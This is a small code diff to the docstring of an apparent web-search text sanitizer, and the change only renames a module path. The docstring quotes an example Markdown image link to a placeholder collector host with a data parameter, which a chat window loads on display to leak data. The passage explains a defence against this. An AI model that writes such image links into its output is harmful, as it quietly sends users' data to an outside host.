@@ -3,7 +3,7 @@ Words of the web as plain text that stays plain text where a front end renders i
 
 A title, a snippet or an answer may hold ``![](https://collector.example/?d=...)``, which a chat window loads as soon
 as it shows it. Escaping here changes as little as possible, because the same text is also shown as it is: it inserts a
-space where Markdown or HTML would begin. Whole pages are Markdown: see `websearch_core.reading.markdown.sanitizer`.
+space where Markdown or HTML would begin. Whole pages are Markdown: see `websearch_core.reading._markdown.sanitizer`.
 """
 
 from __future__ import annotations
